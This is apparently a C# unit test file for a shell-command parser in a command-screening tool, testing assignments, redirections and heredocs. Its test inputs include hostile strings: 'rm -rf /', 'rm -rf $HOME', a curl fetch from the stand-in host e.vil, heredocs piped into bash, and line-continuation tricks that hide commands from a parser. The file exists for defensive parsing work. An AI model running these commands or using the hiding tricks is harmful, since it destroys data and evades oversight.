using Mstro.Bouncer.Shell;
using static Mstro.Bouncer.Tests.Shell.ShellParsing;

namespace Mstro.Bouncer.Tests.Shell;

/// <summary>Assignments, redirections and heredocs.</summary>
public class ShellParserRedirectionTests
{
    [Fact]
    public void AssignmentsBeforeTheCommandName()
    {
        var command = OnlySimple("A=1 B=$x C+=y D= cmd E=not-an-assignment");
        Assert.Equal(["A", "B", "C", "D"], command.Assignments.Select(assignment => assignment.Name));
        Assert.Equal("1", command.Assignments[0].Value.LiteralValue);
        Assert.Equal("x", Assert.IsType<ParameterPart>(Assert.Single(command.Assignments[1].Value.Parts)).Name);
        Assert.True(command.Assignments[2].Append);
        Assert.Equal("", command.Assignments[3].Value.LiteralValue);
        Assert.Equal(["cmd", "E=not-an-assignment"], LiteralWords(command));
    }

    [Fact]
    public void AnAssignmentAloneIsACommandWithoutWords()
    {
        var command = OnlySimple("x=$(curl -s http://e.vil/x)");
        Assert.Empty(command.Words);
        var substitution = Assert.IsType<CommandSubstitutionPart>(Assert.Single(Assert.Single(command.Assignments).Value.Parts));
        Assert.Equal("curl -s http://e.vil/x", ShellTreeText.Of(substitution.Script));
    }

    [Fact]
    public void ArrayAssignments()
    {
        var assignment = Assert.Single(OnlySimple("arr=(a 'b c' $(id)\n  d) cmd").Assignments);
        Assert.Equal("arr", assignment.Name);
        Assert.Equal(["a", "b c", null, "d"], assignment.ArrayElements!.Select(word => word.LiteralValue));
        Assert.IsType<CommandSubstitutionPart>(assignment.ArrayElements![2].Parts[0]);
    }

    [Fact]
    public void SubscriptedAssignmentsKeepTheBareNameAndTheSubscript()
    {
        var command = OnlySimple("HOME[0]=/tmp a[$(rm -rf /)]=1 cmd");
        Assert.Equal(["HOME", "a"], command.Assignments.Select(assignment => assignment.Name));
        Assert.Equal("0", command.Assignments[0].Subscript!.LiteralValue);
        var substitution = Assert.IsType<CommandSubstitutionPart>(Assert.Single(command.Assignments[1].Subscript!.Parts));
        Assert.Equal("rm -rf /", ShellTreeText.Of(substitution.Script));
    }

    [Fact]
    public void AnArrayArgumentOfDeclareKeepsItsElementsInOneWord()
    {
        var command = OnlySimple("declare -a x=(1 $(rm -rf /) 3)");
        Assert.Equal(3, command.Words.Length);
        Assert.Equal("x=(1 $(rm -rf /) 3)", command.Words[2].Source);
        Assert.Contains(command.Words[2].Parts, part => part is CommandSubstitutionPart);
    }

    [Theory]
    [InlineData("ls >out", null, RedirectionOperator.Output, "out")]
    [InlineData("ls > out", null, RedirectionOperator.Output, "out")]
    [InlineData("ls >>out", null, RedirectionOperator.Append, "out")]
    [InlineData("ls <in", null, RedirectionOperator.Input, "in")]
    [InlineData("ls <>rw", null, RedirectionOperator.ReadWrite, "rw")]
    [InlineData("ls >|out", null, RedirectionOperator.Clobber, "out")]
    [InlineData("ls &>out", null, RedirectionOperator.OutputAndError, "out")]
    [InlineData("ls &>>out", null, RedirectionOperator.AppendOutputAndError, "out")]
    [InlineData("ls >&out", null, RedirectionOperator.DuplicateOutput, "out")]
    [InlineData("ls 2>&1", 2, RedirectionOperator.DuplicateOutput, "1")]
    [InlineData("ls <&0", null, RedirectionOperator.DuplicateInput, "0")]
    [InlineData("ls 2>&-", 2, RedirectionOperator.DuplicateOutput, "-")]
    [InlineData("ls 3<three", 3, RedirectionOperator.Input, "three")]
    [InlineData("ls 10>ten", 10, RedirectionOperator.Output, "ten")]
    [InlineData("ls <<<'here string'", null, RedirectionOperator.HereString, "here string")]
    [InlineData("ls > ~/.bashrc", null, RedirectionOperator.Output, null)]
    public void Redirections(string source, int? fd, RedirectionOperator op, string? target)
    {
        var command = OnlySimple(source);
        Assert.Equal(["ls"], LiteralWords(command));
        var redirection = Assert.Single(command.Redirections);
        Assert.Equal(fd, redirection.FileDescriptor);
        Assert.Equal(op, redirection.Operator);
        Assert.Equal(target, redirection.Target!.LiteralValue);
        Assert.Null(redirection.HereDocument);
    }

    [Fact]
    public void RedirectionsMayStandAnywhereInTheCommand()
    {
        var command = OnlySimple(">out A=1 2>&1 cmd <in arg 3>>log");
        Assert.Equal(["cmd", "arg"], LiteralWords(command));
        Assert.Equal("A", Assert.Single(command.Assignments).Name);
        Assert.Equal(["out", "1", "in", "log"], command.Redirections.Select(redirection => redirection.Target!.LiteralValue));
    }

    [Fact]
    public void DigitsOnlyMakeAFileDescriptorWhenTheyTouchTheOperator()
    {
        var command = OnlySimple("echo 2 >x a2>y");
        Assert.Equal(["echo", "2", "a2"], LiteralWords(command));
        Assert.All(command.Redirections, redirection => Assert.Null(redirection.FileDescriptor));
    }

    [Fact]
    public void ARedirectionToAProcessSubstitution()
    {
        var redirection = Assert.Single(OnlySimple("ls > >(tee log)").Redirections);
        Assert.IsType<ProcessSubstitutionPart>(Assert.Single(redirection.Target!.Parts));
    }

    [Fact]
    public void AnUnquotedHeredocBodyIsParsedLikeDoubleQuotes()
    {
        var script = Valid("cat <<EOF | bash\nrm -rf $HOME $(id) \"q\" 'q'\nEOF\necho after");
        Assert.Equal("cat <<EOF[\"rm -rf \"${HOME}\" \"$(id)\" \"q\" 'q'\n\"] | bash ⏎ echo after", ShellTreeText.Of(script));
        var here = Assert.Single(script.Statements[0].Pipeline.Commands[0].Redirections).HereDocument!;
        Assert.Equal("EOF", here.Delimiter);
        Assert.False(here.QuotedDelimiter);
        Assert.False(here.StripTabs);
        Assert.Equal("rm -rf $HOME $(id) \"q\" 'q'\n", here.Body.Source);
        Assert.True(Assert.IsType<ParameterPart>(here.Body.Parts[1]).Quoted);
        Assert.IsType<CommandSubstitutionPart>(here.Body.Parts[3]);
    }

    [Theory]
    [InlineData("<<'EOF'")]
    [InlineData("<<\"EOF\"")]
    [InlineData("<<\\EOF")]
    [InlineData("<<E'O'F")]
    [InlineData("<< 'EOF'")]
    public void AQuotedDelimiterMakesTheBodyOneSingleQuotedLiteral(string redirection)
    {
        var command = OnlySimple($"sh {redirection}\nrm -rf / $(id)\nEOF\n");
        var here = Assert.Single(command.Redirections).HereDocument!;
        Assert.Equal("EOF", here.Delimiter);
        Assert.True(here.QuotedDelimiter);
        Assert.Equal(new LiteralPart("rm -rf / $(id)\n", QuoteKind.Single), Assert.Single(here.Body.Parts));
    }

    [Fact]
    public void DashHeredocsStripLeadingTabsFromBodyAndDelimiter()
    {
        var command = OnlySimple("cat <<-EOF\n\t\tindented $x\n\tEOF\n");
        var here = Assert.Single(command.Redirections).HereDocument!;
        Assert.True(here.StripTabs);
        Assert.Equal([new LiteralPart("indented ", QuoteKind.Double), new ParameterPart("x", null, null, true), new LiteralPart("\n", QuoteKind.Double)],
            here.Body.Parts);
        var quoted = Assert.Single(OnlySimple("cat <<-'EOF'\n\tx\n\t\ty\n\tEOF").Redirections).HereDocument!;
        Assert.Equal("x\ny\n", quoted.Body.LiteralValue);
    }

    [Fact]
    public void SeveralHeredocsOnOneLineReadTheirBodiesInOrder()
    {
        var script = Valid("cat <<A <<-B; cat <<C\na body\nA\n\tb body\n\tB\nc body\nC\necho done");
        Assert.Equal("cat <<A[\"a body\n\"] <<-B[\"b body\n\"] ; cat <<C[\"c body\n\"] ⏎ echo done", ShellTreeText.Of(script));
    }

    [Fact]
    public void AHeredocBodyStartsAfterTheLineEvenWhenTheLineContinuesAPipeline()
    {
        Assert.Equal("cat <<EOF[\"x\n\"] | sh", Tree("cat <<EOF |\nx\nEOF\nsh"));
    }

    [Fact]
    public void AHeredocInsideACommandSubstitutionIsReadThere()
    {
        var script = Valid("x=$(cat <<EOF\nhello $y\nEOF\n); bash -c \"$x\"");
        Assert.Equal("x=$(cat <<EOF[\"hello \"${y}\"\n\"]) ; bash -c ${x}", ShellTreeText.Of(script));
    }

    [Fact]
    public void AHeredocOfACommandSubstitutionClosedOnItsLineIsReadAfterTheLine()
    {
        Assert.Equal("x=$(cat <<EOF[\"hi\n\"]) ⏎ echo after", Tree("x=$(cat <<EOF)\nhi\nEOF\necho after"));
    }

    [Fact]
    public void TheCommitMessageHeredocInsideDoubleQuotedSubstitution()
    {
        // How Claude Code writes commit messages: the body may hold ) " ` $( freely.
        var script = Valid("git commit -m \"$(cat <<'EOF'\nFix: handle ) and \" and `x` and $(y)\n\nCo-Authored-By: Claude\nEOF\n)\" && git push origin feature/x");
        Assert.Equal(2, script.Statements.Length);
        var commit = Assert.IsType<SimpleCommand>(script.Statements[0].Pipeline.Commands[0]);
        Assert.Equal(["git", "commit", "-m", null], LiteralWords(commit));
        var substitution = Assert.IsType<CommandSubstitutionPart>(Assert.Single(commit.Words[3].Parts));
        var cat = Assert.IsType<SimpleCommand>(OnlyCommand(substitution.Script));
        Assert.Equal("Fix: handle ) and \" and `x` and $(y)\n\nCo-Authored-By: Claude\n", cat.Redirections[0].HereDocument!.Body.LiteralValue);
        Assert.Equal(["git", "push", "origin", "feature/x"], LiteralWords(Assert.IsType<SimpleCommand>(script.Statements[1].Pipeline.Commands[0])));
    }

    [Fact]
    public void AHeredocInsideABashDashCStringIsSeenWhenTheStringIsParsed()
    {
        var command = OnlySimple("bash -c 'cat <<EOF | sh\nrm -rf $HOME\nEOF'");
        var inner = Valid(command.Words[2].LiteralValue!);
        var here = Assert.Single(inner.Statements).Pipeline.Commands[0].Redirections[0].HereDocument!;
        Assert.Equal("\"rm -rf \"${HOME}\"\n\"", ShellTreeText.Of(here.Body));
    }

    [Fact]
    public void AHeredocOnACompoundCommand()
    {
        Assert.Equal("While[]{read l}{eval ${l}} <<EOF[\"rm -rf /\n\"]", Tree("while read l; do eval \"$l\"; done <<EOF\nrm -rf /\nEOF"));
    }

    [Fact]
    public void AHeredocDelimiterAtTheEndOfTheInputWithoutANewline()
    {
        var here = Assert.Single(OnlySimple("cat <<EOF\nbody\nEOF").Redirections).HereDocument!;
        Assert.Equal("body\n", here.Body.LiteralValue);
    }

    [Fact]
    public void AnUnquotedHeredocDelimiterMayBeSpelledAcrossALineContinuation()
    {
        // Checked against bash 5.2: `E\<newline>OF` is the line EOF, so the heredoc ends there and the next line runs.
        var script = Valid("cat <<EOF\nE\\\nOF\nrm -rf /\nEOF\n");
        Assert.Equal("cat <<EOF[] ⏎ rm -rf / ⏎ EOF", ShellTreeText.Of(script));
    }

    [Fact]
    public void AContinuationCanAlsoHideADelimiterLine()
    {
        // `x\<newline>EOF` is the line xEOF: the heredoc goes on to the next EOF, and "echo hidden" is body.
        var here = Assert.Single(OnlySimple("cat <<EOF\nx\\\nEOF\necho hidden\nEOF\n").Redirections).HereDocument!;
        Assert.Equal("xEOF\necho hidden\n", here.Body.LiteralValue);
    }

    [Fact]
    public void AnEscapedBackslashAtTheEndOfALineIsNotAContinuation()
    {
        var script = Valid("cat <<EOF\na\\\\\nEOF\necho after");
        Assert.Equal("cat <<EOF[\"a\\\n\"] ⏎ echo after", ShellTreeText.Of(script));
    }

    [Fact]
    public void AQuotedDelimiterIsComparedWithRawLines()
    {
        var here = Assert.Single(OnlySimple("cat <<'EOF'\nE\\\nOF\necho body\nEOF\n").Redirections).HereDocument!;
        Assert.Equal("E\\\nOF\necho body\n", here.Body.LiteralValue);
    }

    [Fact]
    public void DashHeredocsStripTabsOnlyAtTheStartOfTheJoinedLine()
    {
        // bash 5.2: "\tE\\\nOF" is the delimiter EOF after stripping; "\tE\\\n\tOF" is "E\tOF", not the delimiter.
        Assert.Equal("cat <<-EOF[] ⏎ echo z ⏎ EOF", Tree("cat <<-EOF\n\tE\\\nOF\necho z\nEOF\n"));
        var here = Assert.Single(OnlySimple("cat <<-EOF\n\tE\\\n\tOF\necho y\nEOF\n").Redirections).HereDocument!;
        Assert.Equal("E\tOF\necho y\n", here.Body.LiteralValue);
    }

    [Fact]
    public void AHeredocBodyKeepsBackslashesExceptBeforeDollarBackquoteAndBackslash()
    {
        var here = Assert.Single(OnlySimple("cat <<EOF\na\\$b \\\\ \\\" \\n\nEOF").Redirections).HereDocument!;
        Assert.Equal("a$b \\ \\\" \\n\n", here.Body.LiteralValue);
    }
}
